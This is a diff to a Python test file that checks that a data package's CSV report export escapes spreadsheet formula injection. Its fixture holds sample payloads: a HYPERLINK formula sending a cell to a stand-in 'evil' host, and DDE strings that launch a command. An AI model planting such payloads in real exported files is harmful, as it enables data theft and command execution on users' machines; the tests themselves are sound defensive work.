@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
@@ -17,16 +18,19 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from chift_frames import Frames, flatten, list_snapshots, load
+from chift_frames import Frames, flatten, list_snapshots, load, save
 from chift_frames.cli import main
 from chift_frames.export import (
     CHARTS,
     FORMATS,
+    FORMULA_STARTS,
     compute_reports,
+    escape_formulas,
     render_html,
     save_html,
     save_reports,
     to_png,
+    write_csv,
 )
 from chift_frames.reports import REPORTS
 from tests.components import require
@@ -142,6 +146,93 @@ def test_csv_writes_lists_of_ids_as_json(
     back = pd.read_csv(tmp_path / "datastore_inventory.csv")
     for column in _list_columns(inventory):
         assert back[column].map(json.loads).tolist() == inventory[column].tolist()
+
+
+FORMULAS = {
+    "consumer": '=HYPERLINK("http://evil/?x="&A1,"click")',
+    "sync": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "flow": "-2+3+cmd|' /C calc'!A0",
+    "mapping": "\t+1+1\r",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_dir(frames: Frames, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The demo snapshot, saved, with names that a spreadsheet would run as formulas."""
+    tables = dict(frames)
+    victim = frames.consumer_syncs.sort_values(["sync_name", "consumer_id"]).iloc[0]
+    mappings = frames.mappings
+    unmapped = mappings.loc[mappings.unmapped_count > 0, "name"].iloc[0]
+    for table, column, key, value, text in (
+        ("consumers", "name", "consumer_id", victim.consumer_id, FORMULAS["consumer"]),
+        ("consumer_syncs", "sync_name", "sync_id", victim.sync_id, FORMULAS["sync"]),
+        ("syncs", "name", "sync_id", victim.sync_id, FORMULAS["sync"]),
+        ("flows", "name", "sync_id", victim.sync_id, FORMULAS["flow"]),
+        ("mappings", "name", "name", unmapped, FORMULAS["mapping"]),
+    ):
+        df = tables[table].copy()
+        df[column] = df[column].astype(object)
+        df.loc[df[key] == value, column] = text
+        tables[table] = df
+    root = tmp_path_factory.mktemp("formulas")
+    save(Frames(tables), root)
+    return root
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with open(path, encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_report_csv_escapes_text_a_spreadsheet_would_run(formula_dir: Path, tmp_path: Path) -> None:
+    assert main(["report", str(formula_dir), "--format", "csv", "--out", str(tmp_path)]) == 0
+    escaped: set[str] = set()
+    for path in tmp_path.glob("*.csv"):
+        for row in _cells(path):
+            for cell in row:
+                # a cell a spreadsheet would run is a number, or begins with the escaping '
+                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, cell)
+                escaped.update(t for t in FORMULAS.values() if cell == "'" + t)
+    assert escaped == set(FORMULAS.values())
+
+
+def test_escape_formulas_leaves_numbers_and_plain_text_alone() -> None:
+    df = pd.DataFrame(
+        {
+            "delta": [-5, 3, 0],
+            "share": [-0.5, None, 1.0],
+            "count": pd.array([-1, None, 2], dtype="Int64"),
+            "text": pd.array(["=1+1", None, "-5"], dtype="string"),
+            "ids": ['["=x"]', "\tb", "@c"],  # lists of ids as JSON start with [: safe
+            "=name": ["a", "b", "c"],
+        }
+    )
+    out = escape_formulas(df)
+    assert list(out.columns) == ["delta", "share", "count", "text", "ids", "'=name"]
+    pd.testing.assert_frame_equal(out.iloc[:, :3], df.iloc[:, :3])
+    assert out["text"].tolist() == ["'=1+1", pd.NA, "'-5"]  # text, though it reads as a number
+    assert out["ids"].tolist() == ['["=x"]', "'\tb", "'@c"]
+    assert df["text"].tolist() == ["=1+1", pd.NA, "-5"]  # the caller's frame is left as it was
+
+
+def test_a_line_break_inside_a_cell_cannot_start_a_row(tmp_path: Path) -> None:
+    # unquoted, a spreadsheet starts a new row at the carriage return: its next cell would
+    # be '=2+2', a formula that the leading ' of the cell does not reach
+    df = pd.DataFrame({"name": ["POS\r=2+2", "a\n@b", "c"], "n": [-1, 2, 3]})
+    path = tmp_path / "out.csv"
+    with open(path, "w", encoding="utf-8", newline="") as fh:
+        write_csv(df, fh)
+    assert _cells(path) == [["name", "n"], ["POS\r=2+2", "-1"], ["a\n@b", "2"], ["c", "3"]]
+    assert path.read_bytes().count(b"\r\n") == 4  # RFC 4180's row ends
+    pd.testing.assert_frame_equal(pd.read_csv(path), df, check_dtype=False)
 
 
 def test_an_empty_snapshot_still_types_its_lists(tmp_path: Path) -> None:
